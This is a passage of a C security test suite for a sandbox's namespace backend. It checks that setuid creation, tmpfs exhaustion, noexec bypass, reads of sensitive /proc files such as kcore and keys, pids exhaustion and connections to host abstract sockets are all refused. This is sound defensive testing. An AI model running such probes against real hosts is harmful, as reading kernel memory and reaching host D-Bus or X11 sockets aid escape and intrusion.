		      strstr(r.out, "allowed chmod-0700"),
	      "15: chmod, fchmod, fchmodat, fchmodat2, open/openat/creat O_CREAT, O_TMPFILE, "
	      "mknod cannot set S_ISUID or S_ISGID; openat2 is ENOSYS");
	if (strstr(r.out, "ESCAPED") || !strstr(r.out, "allowed"))
		printf("# %s", r.out);
	sh(b, s, &r,
	   "rm -f /work/suid-sh /work/inst /work/suid /work/open-creat /work/openat-creat "
	   "/work/creat /work/mknod /work/mknodat /work/tmpfile /work/openat2");
}

/* Review finding 9: /tmp and /dev/shm had no size, so tmpfs took up to half the host's RAM
 * (and, in a persistent session, kept it charged to the sandbox). */
static void case_tmp_size(struct zb_session *s)
{
	struct result r;
	sh(b, s, &r, "head -c 100000000 /dev/zero > /tmp/fill; r=$?; rm -f /tmp/fill; exit $r");
	check(r.exit.exit_code != 0 && strstr(r.err, "No space left on device"),
	      "18: filling /tmp stops with ENOSPC at its size");
	sh(b, s, &r,
	   "head -c 40000000 /dev/zero > /dev/shm/fill; r=$?; rm -f /dev/shm/fill; exit $r");
	check(r.exit.exit_code != 0 && strstr(r.err, "No space left on device"),
	      "18: filling /dev/shm stops with ENOSPC at its size");
	sh(b, s, &r,
	   "awk '$5==\"/tmp\"||$5==\"/dev/shm\"||$5==\"/scratch\" {print $5, $NF}' "
	   "/proc/self/mountinfo");
	int limited = 0;
	for (char *p = r.out; (p = strstr(p, "nr_inodes=")); p++)
		limited++;
	check(limited == 3, "18: /tmp, /dev/shm and tmpfs zones have an inode limit");
	sh(b, s, &r,
	   "cp /bin/true /dev/shm/t && chmod 755 /dev/shm/t && /dev/shm/t; r=$?; "
	   "rm -f /dev/shm/t; exit $r");
	check(r.exit.exit_code == 126 && strstr(r.err, "ermission denied"),
	      "18: a program copied to /dev/shm does not run there (noexec; exit %d)",
	      r.exit.exit_code);
}

/* Review finding 10: in root mode /proc/kpageflags, kpagecount, slabinfo and similar files
 * (physical memory layout, kernel heap state: help for kernel exploits) were readable. They
 * are masked in both modes, as Docker does. */
static void case_proc_masked(struct zb_session *s)
{
	struct result r;
	sh(b, s, &r,
	   "for p in kcore keys kpagecount kpageflags kpagecgroup slabinfo timer_list "
	   "timer_stats sched_debug latency_stats; do f=/proc/$p; test -e $f || continue; "
	   "n=$(head -c 64 $f 2>/dev/null | wc -c); test $n -gt 0 && echo readable $f; "
	   "awk -v f=$f '$5==f {m=1} END {exit !m}' /proc/self/mountinfo || echo unmasked $f; "
	   "done; for d in acpi asound scsi; do test -d /proc/$d && test -n \"$(ls -A /proc/$d)\" "
	   "&& echo listed /proc/$d; done; true");
	check(r.exit.exit_code == 0 && r.out_len == 0,
	      "24: /proc/kpageflags, kpagecount, slabinfo, kcore, keys, timer_list... are masked");
	for (char *l = strtok(r.out, "\n"); l; l = strtok(NULL, "\n"))
		printf("# %s\n", l);
}

/* The pids limit reached by commands running in parallel in a persistent session made the
 * next command fail as if the sandbox had (an `error`, "the next call starts a new
 * sandbox"). It is the command's failure: exit status 126, the reason on its stderr. */
static void case_pids_parallel(void)
{
	char yaml[1000];
	snprintf(yaml, sizeof(yaml),
		 "sandbox:\n"
		 "  backend: namespace\n"
		 "  session: persistent\n"
		 "  limits: {pids: 4}\n"
		 "  zones:\n"
		 "    - {name: att, mode: ro, hostPath: %s}\n",
		 attack_dir);
	struct zb_config *cfg = load_config(yaml, "pids");
	if (!cfg)
		return;
	struct zb_session *s = open_session(cfg);
	struct result first;
	sh(b, s, &first, "true");
	char why[200];
	bool cgroup_pids = enforced(s, "pids", why, sizeof(why));
	enum { N = 8 };
	struct result *r = calloc(N, sizeof(*r));
	struct zb_run run[N];
	char *argv[] = {"sleep", "0.5", NULL};
	int started = 0;
	for (int i = 0; i < N; i++)
		started += start(b, s, &run[i], &r[i], argv, "/", NULL) == 0;
	for (int i = 0; i < N; i++)
		wait_done(&r[i], 10000);
	int ok = 0, limited = 0, other = 0;
	for (int i = 0; i < N; i++) {
		if (r[i].done && !r[i].exit.error && !r[i].exit.session_lost &&
		    r[i].exit.exit_code == 0)
			ok++;
		else if (r[i].done && !r[i].exit.error && !r[i].exit.session_lost &&
			 r[i].exit.exit_code == 126 &&
			 strstr(r[i].err, "process limit (pids: 4) is reached by the commands "
					  "already running"))
			limited++;
		else {
			other++;
			printf("# run %d: code %d error %s stderr %s\n", i, r[i].exit.exit_code,
			       r[i].exit.error ? r[i].exit.error : "-", r[i].err);
		}
	}
	check(started == N && other == 0,
	      "16: commands over the pids limit in parallel fail as commands (exit 126, the "
	      "reason on stderr), not as a lost sandbox (%d ran, %d limited)",
	      ok, limited);
	/* Unprivileged, the limit is RLIMIT_NPROC, which counts only what commands fork
	 * themselves: starting a command is not limited. */
	/* How many start before the limit bites depends on timing (the sandbox's own init and
	 * prepared processes count too, and under load they linger longer): the property is that
	 * some are stopped, cleanly. */
	if (cgroup_pids && strstr(why, "cgroup") != NULL)
		check(limited > 0,
		      "16: the pids limit stopped some of %d parallel "
		      "commands (%d ran, %d limited)",
		      N, ok, limited);
	else
		skip("16: the pids limit stops parallel commands from starting",
		     "the pids limit is RLIMIT_NPROC here, which counts what commands fork, not "
		     "their start");
	sh(b, s, &first, "echo alive");
	check(strcmp(first.out, "alive\n") == 0 && !first.exit.error,
	      "16: the session still serves after the pids limit was reached");
	free(r);
	close_session(b, s);
	zb_config_free(cfg);
}

/* Review finding (MEDIUM): with `network: host` the sandbox shares the host's network
 * namespace, so it could connect to the host's abstract unix sockets (X11, D-Bus: code
 * execution on the host). A Landlock scope keeps them out of reach. */
static void case_26_host(const char *abstract)
{
	struct zb_config *cfg = config("per-call", "host");
	struct zb_session *s = open_session(cfg);
	struct result r;
	char args[200];
	snprintf(args, sizeof(args), "sockets %.60s /nonexistent 1", abstract);
	attack(s, &r, args);
	check(strstr(r.out, "refused socket-vsock") && strstr(r.out, "refused socket-alg") &&
		      strstr(r.out, "refused socket-packet"),
	      "26: network host: AF_VSOCK, AF_ALG (and raw packet) sockets still refused");
	json_t *info = json_object();
	b->describe(s, info);
	json_t *scope = json_object_get(json_object_get(info, "isolation"), "landlock_scope");
	if (json_is_true(json_object_get(scope, "enforced")) || !scope)
		check(strstr(r.out, "refused connect-abstract-unix") != NULL,
		      "28: network host: the host's abstract unix socket is not reachable");
	else
		skip("28: network host: the host's abstract unix socket is not reachable",
		     json_string_value(json_object_get(scope, "how")) ?: "no Landlock scope");
	json_decref(info);
	close_session(b, s);
	zb_config_free(cfg);
}

int main(int argc, char **argv)
{
	signal(SIGPIPE, SIG_IGN);
	const char *att = getenv("ZB_ATTACK_DIR");
	if (!att) {
		printf("1..0 # SKIP ZB_ATTACK_DIR (the folder of zb-attack) is not set\n");
		return 0;
	}
	snprintf(attack_dir, sizeof(attack_dir), "%s", att);
	if (maybe_drop_privileges(argc, argv) < 0)
		return 0;
	setenv("ZB_SECRET_MARKER", "server-secret", 1);
	make_base("zb-sectest");
	char p[300];
	snprintf(p, sizeof(p), "%s/work", base);
	mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/in", base);
	mkdir(p, 0755);
	loop = uv_default_loop();
	b = zb_backend_find("namespace");
	if (!b) {
		printf("1..0 # SKIP the namespace backend is not built\n");
		return 0;
	}
	struct zb_config *cfg = config("persistent", "none");
	struct zb_error *err = NULL;
	if (b->probe(cfg, &err) < 0) {
		printf("1..0 # SKIP namespace backend unusable here: %s\n", err->msg);
		return 0;
	}

	/* Host-side listeners the sandbox must not reach (26, 28). */
	int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in a = {.sin_family = AF_INET};
	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	socklen_t alen = sizeof(a);
	bind(tcp, (struct sockaddr *)&a, sizeof(a));
	listen(tcp, 4);
	getsockname(tcp, (struct sockaddr *)&a, &alen);
	char abstract[64], unix_path[300];
	snprintf(abstract, sizeof(abstract), "zb-sec-%d", (int)getpid());
	int ab = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un un = {.sun_family = AF_UNIX};
	snprintf(un.sun_path + 1, sizeof(un.sun_path) - 1, "%s", abstract);
	bind(ab, (struct sockaddr *)&un,
	     (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(abstract)));
	listen(ab, 4);
	snprintf(unix_path, sizeof(unix_path), "%s/host.sock", base);
	int us = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un fsun = {.sun_family = AF_UNIX};
	snprintf(fsun.sun_path, sizeof(fsun.sun_path), "%.100s", unix_path);
	bind(us, (struct sockaddr *)&fsun, sizeof(fsun));
	listen(us, 4);

	struct zb_session *s = open_session(cfg);
	case_12_to_15(s);
	case_dev_nodes(s);
	case_setuid(s);
	case_tmp_size(s);
	case_proc_masked(s);
	case_16_to_20(s);
	case_22_to_29(s, ntohs(a.sin_port), abstract, unix_path);
	case_25_filter_limits(s);
	close_session(b, s);

	struct zb_config *pc = config("per-call", "none");
	s = open_session(pc);
	struct result r;
	attack(s, &r, "syscalls");
	check(r.done && !strstr(r.out, "ESCAPED") && strstr(r.out, "refused mount"),
	      "25: per-call sandboxes get the same filter");
	close_session(b, s);
	case_21(pc);
	case_26_host(abstract);
	case_pids_parallel();
	case_protect_rename();
	case_protect_symlink();
	case_build_error_race();
	case_protect_create();
	case_zone_swapped();
	case_rootfs_swapped();
	zb_config_free(pc);
	zb_config_free(cfg);
	close(tcp);
	close(ab);
	close(us);
	printf("1..%d\n", n_tests);
	remove_base();
	return n_failed ? 1 : 0;
}
